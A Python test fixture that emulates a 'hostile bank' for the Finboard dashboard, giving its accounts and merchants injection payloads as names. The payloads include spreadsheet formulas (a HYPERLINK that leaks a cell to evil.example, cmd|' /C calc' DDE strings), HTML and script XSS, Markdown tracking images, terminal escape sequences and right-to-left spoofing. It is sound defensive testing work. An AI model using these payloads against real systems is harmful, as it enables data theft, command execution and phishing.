"""The hostile bank: an emulated institution whose every name attacks the places Finboard shows it.

Its institution, account and merchant names carry spreadsheet formulas, Markdown images and links,
HTML, Plotly template syntax, Streamlit directives and icons, bare URLs, terminal escape sequences and
other control characters, right-to-left marks and 1 KB strings. Its numbers and categories are those
of an ordinary emulated bank. Every URL in it points at a host no Finboard page may contact
(HOSTILE_HOSTS), so a browser test can tell a leak from the dashboard's own requests.

Connect it with `finboard connect-sandbox --institution ins_666666` (it is left out of Link's list of
banks so the demo's list stays readable).
"""

from __future__ import annotations

import dataclasses
from typing import TYPE_CHECKING, cast

from core.emulator.bodies import FragmentKey, TransactionWriter
from core.emulator.catalog import INSTITUTIONS_BY_ID, MERCHANTS

if TYPE_CHECKING:
    from core.emulator.world import World

INSTITUTION_ID = "ins_666666"
HOSTILE_HOSTS = ("127.0.0.1:9", "evil.example")  # port 9 is "discard"; .example never resolves

INSTITUTION_NAME = INSTITUTIONS_BY_ID[INSTITUTION_ID].name  # a formula and a Markdown image (catalog.toml)
LONG_NAME = "L" + ("ong merchant name " * 60)[:1023]  # 1,024 characters

# One attack per line; merchants take them in turn.
NAMES = (
    '=HYPERLINK("http://evil.example/?leak="&A2,"Refund")',
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C notepad'!'A1'",
    "@SUM(1+1)",
    "\t=1+1 after a tab",
    "\r=1+1 after a carriage return",
    "#N/A",
    "![pixel](http://127.0.0.1:9/pixel.png)",
    "[Claim your refund](http://evil.example/phish)",
    "<http://evil.example/autolink>",
    "www.evil.example, mail@evil.example and http://evil.example/bare",
    '<a href="http://evil.example/anchor">Anchor Cafe</a>',
    '<img src="http://127.0.0.1:9/img.png" onerror="alert(1)">',
    '<script>alert("x")</script><b>Bold</b><br>break &amp; entity',
    "%{x} %{y:$,.2f} %{customdata[0]} %{fullData.name}",
    ":red[Red] :material/home: :streamlit: :smile: $x^2$ **bold** `code` ~~gone~~ -> arrow",
    "| table | cell |",
    "\x1b[31mRED\x1b[0m\x07 bell\x08 backspace",
    "Line one\nline two\r\nline three",
    "\u202egnp.exe\u202c \u200fRLM \u2066isolated\u2069 reversed",
    LONG_NAME,
)

# role -> (name, official name)
ACCOUNT_NAMES = {
    "checking": ('=HYPERLINK("http://evil.example/checking","Checking")', "<b>Checking</b> %{x}"),
    "savings": ("![savings](http://127.0.0.1:9/savings.png) Savings", "[Savings](http://evil.example/savings)"),
    "card": ('<a href="http://evil.example/card">Card</a> %{y}', "\x1b]8;;http://evil.example\x07Card\x1b]8;;\x07"),
    "loan": ("\x1b[2J\x1b[HLoan\nsecond line", "@SUM(1+1) Loan"),
    "investment": ("\u202ekrowten\u202c Brokerage", ":material/home: :streamlit: Brokerage"),
    "fx": (LONG_NAME, "-1+1 Chequing"),
}

EVERY_NAME = (INSTITUTION_NAME, *NAMES, *(name for pair in ACCOUNT_NAMES.values() for name in pair))


def disguise(world: World) -> None:
    """Give a freshly built world the hostile names (before its history is written)."""
    world.accounts[:] = [  # in place: the world's books read the same list
        dataclasses.replace(a, name=ACCOUNT_NAMES[a.role][0], official_name=ACCOUNT_NAMES[a.role][1])
        if a.role in ACCOUNT_NAMES
        else dataclasses.replace(a, name=f"{NAMES[a.index % len(NAMES)]} {a.mask}")
        for a in world.accounts
    ]
    world.books._bodies = HostileWriter(
        world.seed,
        world.ordinal,
        [a.account_id for a in world.accounts],
        [a.currency for a in world.accounts],
        world.employer,
    )


_MERCHANT_INDEX = {key: i for i, key in enumerate(MERCHANTS)}


class HostileWriter(TransactionWriter):
    """Transactions whose merchant and description come from NAMES (each merchant keeps one pair)."""

    def _describe(self, key: FragmentKey) -> dict[str, object]:
        body = super()._describe(key)
        if key[0] == "m":
            i = _MERCHANT_INDEX[key[1]]
            name, merchant = NAMES[i % len(NAMES)], NAMES[(i + 1) % len(NAMES)]
            body["name"] = name
            if body["merchant_name"] is not None:
                body["merchant_name"] = merchant
                for party in cast(list[dict[str, object]], body["counterparties"]):
                    party["name"] = merchant
        return body
